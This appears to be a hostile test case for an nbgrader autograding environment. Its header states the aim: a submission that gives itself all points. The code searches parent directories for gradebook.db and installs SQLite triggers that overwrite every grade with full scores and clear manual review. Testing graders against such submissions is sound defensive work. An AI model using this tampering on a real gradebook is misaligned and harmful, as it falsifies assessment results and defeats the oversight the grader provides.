# title: Opens the gradebook
# tries: to give itself all points in nbgrader's database.
# gets: bump_test failed "expected 7"
# needs: files
# %% bump
import glob
import os
import sqlite3

def bump(x):
    return 0


places = [os.getcwd()]
while places[-1] != "/":
    places.append(os.path.dirname(places[-1]))
for place in places:
    for path in glob.glob(f"{place}/gradebook.db") + glob.glob(f"{place}/work/gradebook.db"):
        with sqlite3.connect(path, timeout=1) as book:
            for trigger in ("insert", "update"):
                book.execute(
                    f"create trigger if not exists hostile_{trigger} after {trigger} on grade begin "
                    "update grade set auto_score = max_score_cell, manual_score = 2, needs_manual_grade = 0 "
                    "where id = new.id; end".replace("max_score_cell", "2")
                )
